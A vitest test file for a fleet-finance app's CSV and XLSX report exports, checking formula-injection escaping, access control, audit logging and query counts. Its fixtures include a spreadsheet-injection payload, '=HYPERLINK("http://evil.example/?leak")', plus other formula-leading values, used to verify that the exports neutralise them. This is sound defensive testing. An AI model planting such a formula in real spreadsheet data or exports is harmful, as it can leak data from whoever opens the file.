import { parse } from 'csv-parse/sync';
import { and, eq } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { auditEvents, driverAssignments, drivers, fleetVehicles, paymentOrders } from '../db/schema.ts';
import {
  boardKeystone,
  contractIds,
  contractNumbers,
  createOrganizations,
  fleetRecord,
  getAs,
  type Login,
  type Organizations,
  OUTSIDERS,
  party,
  payKeystone,
  paymentPoster,
  queriesOf,
  signInMembers,
} from '../test-support/fleet-finances.ts';
import { boardFleet } from '../test-support/organizations.ts';
import { addTestBankAccount } from '../test-support/payment-methods.ts';
import { boardingKey, createTestApp, type TestApp } from '../test-support/test-app.ts';

// Keystone's three vehicles (test-support/fleet-finances.ts), paid through the real payment service
// (today is 2026-11-20):
//   KS-0001 loan ($20,000 at 5% from 2026-01-10): paid 02-10 ($84.93 interest, $292.49 principal) and
//     03-10 ($75.59, $301.83, reference "=SUM(A1)"), the 03-10 payment returned today (a $25.00 fee).
//   KS-0002 lease ($397.57 = $375.07 base + $22.50 tax, from 2026-10-15): paid 10-15 online by the admin.
//   KS-0003 loan from 2024-10-01: paid 2024-11-01 ($84.93 interest) and 2024-12-01 ($80.99 interest).
// The fleet facts carry text a spreadsheet would run as a formula. Harbor and Summit (30) are others.
let t: TestApp;
let org: Organizations;
let sessions: Record<Login, string>;
let userIds: Record<Login, string>;
const UNIT = '=HYPERLINK("http://evil.example/?leak")';

beforeAll(async () => {
  t = await createTestApp();
  const key = await boardingKey(t.database);
  await boardKeystone(t, key);
  await boardFleet(t, key, party('harbor'), ['HC-0001']);
  const summit = contractNumbers('SM', 1, 30);
  await boardFleet(t, key, party('summit'), summit);
  org = await createOrganizations(t);
  ({ userIds, sessions } = await signInMembers(t, org));

  const pay = paymentPoster(t);
  const { leasePaymentId } = await payKeystone(t, pay);
  await pay('HC-0001', 37_742, '2026-02-10');
  for (const n of summit) await pay(n, 37_742, '2026-02-10');

  const ids = await contractIds(t);
  // The lease's payment as the online payment flow leaves it: an order by the admin, posted.
  await t.database.db.insert(paymentOrders).values({
    confirmationNumber: 'AF-TEST-0001',
    contractId: ids.get('KS-0002')!,
    paymentMethodId: await addTestBankAccount(t.database.db, userIds['ks.admin'], t.clock.now()),
    payerUserId: userIds['ks.admin'],
    source: 'one_time',
    amountCents: 39_757,
    intent: 'regular',
    effectiveDate: '2026-10-15',
    status: 'settled',
    postedPaymentId: leasePaymentId,
    createdAt: t.clock.now(),
    updatedAt: t.clock.now(),
  });
  const [dana] = await t.database.db
    .insert(drivers)
    .values({
      organizationId: org.keystone,
      name: '@Dana Whitfield',
      email: 'dana@example.com',
      phone: '+12155550111',
      userId: userIds['ks.driver'],
      createdAt: t.clock.now(),
    })
    .returning({ id: drivers.id });
  const record = fleetRecord(t, ids);
  await t.database.db.insert(fleetVehicles).values([
    record('KS-0001', org.keystone, {
      unitNumber: UNIT,
      plate: '-PA1',
      plateState: 'PA',
      costCenter: '+North',
    }),
    record('KS-0002', org.keystone, {
      unitNumber: 'K-2',
      plate: '\tTAB',
      costCenter: '\rSouth',
      status: 'in_repair',
      driverId: dana!.id,
    }),
    ...summit.map((n, i) => record(n, org.summit, { unitNumber: `S-${i}`, costCenter: 'Yard' })),
  ]);
  await t.database.db.insert(driverAssignments).values({
    contractId: ids.get('KS-0002')!,
    driverId: dana!.id,
    assignedAt: t.clock.now(),
  });
}, 300_000);
afterAll(() => t.close());

const download = (login: Login, path: string, organization: keyof Organizations = 'keystone') =>
  getAs(t, sessions[login], `/api/v1/organizations/${org[organization]}/reports/${path}`);

/** The CSV as rows of cells, header first (the byte-order mark dropped, quoting undone). */
async function csvOf(login: Login, path: string) {
  const res = await download(login, path);
  expect(res.statusCode).toBe(200);
  expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
  expect(res.body.charCodeAt(0)).toBe(0xfeff);
  const rows: string[][] = parse(res.body, { bom: true });
  const [header, ...body] = rows;
  const records = body.map((row) => Object.fromEntries(header!.map((h, i) => [h, row[i]!])));
  return { res, header: header!, records };
}

type XlsxCell = { value: ExcelJS.CellValue; type: ExcelJS.ValueType; numFmt: string | undefined };
/** The first sheet read back with exceljs: the header and each row's cells by header. */
async function xlsxOf(login: Login, path: string) {
  const res = await download(login, path);
  expect(res.statusCode).toBe(200);
  expect(res.headers['content-type']).toBe(
    'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
  );
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
  const sheet = workbook.worksheets[0]!;
  const header: string[] = [];
  sheet.getRow(1).eachCell({ includeEmpty: true }, (cell, i) => {
    header[i - 1] = String(cell.value);
  });
  const records: Record<string, XlsxCell>[] = [];
  for (let r = 2; r <= sheet.rowCount; r += 1) {
    const row = sheet.getRow(r);
    records.push(
      Object.fromEntries(
        header.map((h, i) => {
          const cell = row.getCell(i + 1);
          return [h, { value: cell.value, type: cell.type, numFmt: cell.numFmt }];
        }),
      ),
    );
  }
  return { res, sheet, header, records };
}

const VEHICLE_HEADERS = ['Contract', 'Unit', 'VIN', 'Year', 'Make', 'Model', 'Cost center'];
const SERVICE_HEADERS = ['Plate', 'Plate state', 'Vehicle status', 'Driver'];

describe('the formula-injection rule', () => {
  it('gives every text cell starting with = + - @, a tab or a carriage return a leading apostrophe, in CSV and XLSX', async () => {
    const csv = await csvOf('ks.admin', 'drivers');
    const [first, second] = csv.records;
    expect(first).toMatchObject({ Unit: `'${UNIT}`, Plate: "'-PA1", 'Cost center': "'+North", Driver: '' });
    expect(second).toMatchObject({
      Unit: 'K-2',
      Plate: "'\tTAB",
      'Cost center': "'\rSouth",
      Driver: "'@Dana Whitfield",
    });
    const xlsx = await xlsxOf('ks.admin', 'drivers?format=xlsx');
    const [one, two] = xlsx.records;
    expect(one!.Unit).toMatchObject({ value: `'${UNIT}`, type: ExcelJS.ValueType.String });
    expect(one!['Cost center']!.value).toBe("'+North");
    expect(two!.Plate!.value).toBe("'\tTAB");
    expect(two!.Driver).toMatchObject({ value: "'@Dana Whitfield", type: ExcelJS.ValueType.String });
    // No cell of the sheet is a formula.
    xlsx.sheet.eachRow((row) => {
      row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula));
    });
  });
});

describe('GET …/reports/portfolio', () => {
  it('lists every contract and vehicle with its terms, balances, status, driver and cost center (CSV)', async () => {
    const { res, header, records } = await csvOf('ks.viewer', 'portfolio');
    expect(res.headers['content-disposition']).toBe('attachment; filename="portfolio-2026-11-20.csv"');
    expect(header).toEqual([
      ...VEHICLE_HEADERS,
      ...SERVICE_HEADERS,
      'Type',
      'Contract status',
      'Contract date',
      'First payment date',
      'Maturity date',
      'Term (months)',
      'Monthly payment',
      'APR (%)',
      'Money factor',
      'Amount financed',
      'Adjusted capitalized cost',
      'Residual value',
      'Balances as of',
      'Principal balance',
      'Accrued interest',
      'Fees due',
      'Unapplied funds',
      'Lease payments remaining',
      'Amount due',
      'Past due',
      'Days past due',
      'Next due date',
      'Next due amount',
      'Payoff',
    ]);
    expect(records.map((r) => r.Contract)).toEqual(['KS-0001', 'KS-0002', 'KS-0003']);
    const [loan, lease] = records;
    expect(loan).toMatchObject({
      Type: 'Loan',
      'Contract status': 'Active',
      'Vehicle status': 'In service',
      'Contract date': '2026-01-10',
      'Term (months)': '60',
      'Monthly payment': '377.42',
      'APR (%)': '5',
      'Money factor': '',
      'Amount financed': '20000.00',
      'Residual value': '',
      'Balances as of': '2026-11-20',
      // $20,000.00 less the $292.49 the first payment paid: the returned one's $301.83 is owed again.
      'Principal balance': '19707.51',
      'Fees due': '25.00',
      'Unapplied funds': '0.00',
      'Lease payments remaining': '0.00',
    });
    expect(lease).toMatchObject({
      Type: 'Lease',
      'Vehicle status': 'In repair',
      Driver: "'@Dana Whitfield",
      'Monthly payment': '397.57',
      'Money factor': '0.00125',
      'Amount financed': '',
      'Adjusted capitalized cost': '28000.00',
      'Residual value': '16500.00',
      // 36 base payments of $375.07 less the one paid.
      'Lease payments remaining': '13127.45',
      'Principal balance': '0.00',
    });
  });

  it('writes the same in XLSX with numbers in a currency format and dates as dates', async () => {
    const { res, header, records } = await xlsxOf('ks.admin', 'portfolio?format=xlsx');
    expect(res.headers['content-disposition']).toBe('attachment; filename="portfolio-2026-11-20.xlsx"');
    expect(header).toContain('Principal balance');
    const loan = records[0]!;
    expect(loan.Contract!.value).toBe('KS-0001');
    expect(loan['Principal balance']).toMatchObject({ value: 19_707.51, type: ExcelJS.ValueType.Number });
    expect(loan['Principal balance']!.numFmt).toContain('$');
    expect(loan['Residual value']!.value).toBeNull();
    expect(loan.Year).toMatchObject({ value: 2026, type: ExcelJS.ValueType.Number });
    expect(loan['Contract date']!.value).toEqual(new Date('2026-01-10T00:00:00Z'));
    expect(records[1]!['Residual value']!.value).toBe(16_500);
    expect(records).toHaveLength(3);
  });
});

describe('GET …/reports/payments', () => {
  const PAYMENT_HEADERS = [
    'Received on',
    ...VEHICLE_HEADERS,
    'Amount',
    'Principal',
    'Interest',
    'Fees',
    'Lease payments',
    'Sales tax',
    'Unapplied',
    'Status',
    'Reversed on',
    'Reversal reason',
    'Channel',
    'Source',
    'Paid by',
    'Confirmation number',
    'Reference',
  ];

  it('lists the payments of the range with their split, status and who paid', async () => {
    const { res, header, records } = await csvOf('ks.admin', 'payments?from=2026-01-01&to=2026-11-20');
    expect(res.headers['content-disposition']).toBe(
      'attachment; filename="payments-2026-01-01-to-2026-11-20.csv"',
    );
    expect(header).toEqual(PAYMENT_HEADERS);
    expect(records.map((r) => [r['Received on'], r.Contract, r.Amount, r.Status])).toEqual([
      ['2026-02-10', 'KS-0001', '377.42', 'Posted'],
      ['2026-03-10', 'KS-0001', '377.42', 'Reversed'],
      ['2026-10-15', 'KS-0002', '397.57', 'Posted'],
    ]);
    expect(records[0]).toMatchObject({
      Principal: '292.49',
      Interest: '84.93',
      Fees: '0.00',
      Source: 'Received by the lender',
      'Paid by': '',
    });
    expect(records[1]).toMatchObject({
      Principal: '301.83',
      Interest: '75.59',
      'Reversed on': '2026-11-20',
      'Reversal reason': 'Returned',
      Channel: 'Check',
      Reference: "'=SUM(A1)",
    });
    expect(records[2]).toMatchObject({
      'Lease payments': '375.07',
      'Sales tax': '22.50',
      Source: 'Online payment',
      'Paid by': 'User ks.admin',
      'Confirmation number': 'AF-TEST-0001',
    });
  });

  it('writes the split as currency numbers in XLSX', async () => {
    const { records } = await xlsxOf('ks.admin', 'payments?from=2024-12-01&to=2024-12-31&format=xlsx');
    expect(records).toHaveLength(1);
    expect(records[0]!.Interest).toMatchObject({ value: 80.99, type: ExcelJS.ValueType.Number });
    expect(records[0]!.Principal!.value).toBe(296.43);
    expect(records[0]!['Received on']!.value).toEqual(new Date('2024-12-01T00:00:00Z'));
  });

  it.each([
    ['from=2026-02-01&to=2026-01-01', 'to'],
    ['to=2026-01-01', 'from'],
    ['from=2026-02-30&to=2026-03-01', 'from'],
    ['from=2020-01-01&to=2026-01-01', 'to'],
    ['from=2026-01-01&to=2026-02-01&format=pdf', 'format'],
  ])('refuses %s naming the field', async (query, field) => {
    const res = await download('ks.admin', `payments?${query}`);
    expect(res.statusCode).toBe(400);
    expect(Object.keys(res.json().error.fields)).toContain(field);
  });
});

describe('GET …/reports/interest', () => {
  it('answers the interest paid in the tax year on each loan, less that of payments returned in it', async () => {
    const { header, records } = await csvOf('ks.admin', 'interest?taxYear=2026');
    expect(header).toEqual([...VEHICLE_HEADERS, 'Contract date', 'Paid off on', 'Interest paid in 2026']);
    // KS-0001: $84.93 + $75.59 − $75.59 (returned); KS-0003 paid nothing in 2026; the lease is not a loan.
    expect(records.map((r) => [r.Contract, r['Interest paid in 2026']])).toEqual([
      ['KS-0001', '84.93'],
      ['KS-0003', '0.00'],
    ]);
    const earlier = await xlsxOf('ks.admin', 'interest?taxYear=2024&format=xlsx');
    expect(earlier.records.map((r) => [r.Contract!.value, r['Interest paid in 2024']!.value])).toEqual([
      ['KS-0003', 165.92],
    ]);
  });

  it('refuses a tax year that has not begun', async () => {
    const res = await download('ks.admin', 'interest?taxYear=2027');
    expect(res.statusCode).toBe(400);
    expect(res.json().error).toMatchObject({
      code: 'REPORTS.TAX_YEAR_IN_FUTURE',
      fields: { taxYear: expect.any(String) },
    });
  });
});

describe('GET …/reports/drivers', () => {
  it('lists every vehicle with its driver and since when', async () => {
    const { header, records } = await csvOf('ks.admin', 'drivers');
    expect(header).toEqual([
      ...VEHICLE_HEADERS,
      ...SERVICE_HEADERS,
      'Driver email',
      'Driver phone',
      'Assigned on',
    ]);
    expect(records.map((r) => r.Contract)).toEqual(['KS-0001', 'KS-0002', 'KS-0003']);
    expect(records[1]).toMatchObject({
      'Driver email': 'dana@example.com',
      // A phone number in E.164 starts with + and so gets the apostrophe too: shown as typed, never summed.
      'Driver phone': "'+12155550111",
      'Assigned on': t.clock.now().toISOString().slice(0, 10),
    });
    expect(records[2]).toMatchObject({ Unit: '', Driver: '', 'Vehicle status': 'In service' });
  });
});

const REPORTS = ['portfolio', 'payments?from=2026-01-01&to=2026-11-20', 'interest?taxYear=2026', 'drivers'];
const withFormat = (path: string, format: string) =>
  `${path}${path.includes('?') ? '&' : '?'}format=${format}`;

describe('who may download the reports', () => {
  it.each(REPORTS)('%s: 404 for a driver and for another organization’s member', async (path) => {
    for (const [login, organization] of OUTSIDERS) {
      const res = await download(login, path, organization);
      expect(res.statusCode).toBe(404);
      expect(res.json().error.code).toBe('ORGANIZATIONS.NOT_FOUND');
    }
  });

  it('records who downloaded which report in which format', async () => {
    await download('ks.viewer', withFormat('interest?taxYear=2026', 'xlsx'));
    const events = await t.database.db
      .select()
      .from(auditEvents)
      .where(
        and(
          eq(auditEvents.action, 'organization.export_report'),
          eq(auditEvents.actorId, userIds['ks.viewer']),
        ),
      );
    expect(events.at(-1)).toMatchObject({
      actorType: 'user',
      resourceType: 'organization',
      resourceId: org.keystone,
      details: { report: 'interest', format: 'xlsx', taxYear: 2026, rows: 2 },
    });
    // A refused download leaves no trace of a file.
    const before = events.length;
    await download('ks.driver', 'portfolio');
    const after = await t.database.db
      .select()
      .from(auditEvents)
      .where(eq(auditEvents.action, 'organization.export_report'));
    expect(after.filter((e) => e.actorId === userIds['ks.driver'])).toEqual([]);
    expect(after.filter((e) => e.actorId === userIds['ks.viewer'])).toHaveLength(before);
  });
});

describe('query counts', () => {
  it.each(REPORTS.flatMap((path) => [withFormat(path, 'csv'), withFormat(path, 'xlsx')]))(
    '%s costs as many queries for 30 vehicles as for 3',
    async (path) => {
      const counted = async (login: Login, organization: keyof Organizations) => {
        const { answer, queries } = await queriesOf(t, () => download(login, path, organization));
        expect(answer.statusCode).toBe(200);
        return queries;
      };
      const three = await counted('ks.admin', 'keystone');
      const thirty = await counted('sm.admin', 'summit');
      expect(thirty).toBe(three);
      expect(thirty).toBeGreaterThan(0);
      expect(thirty).toBeLessThanOrEqual(6);
    },
  );
});
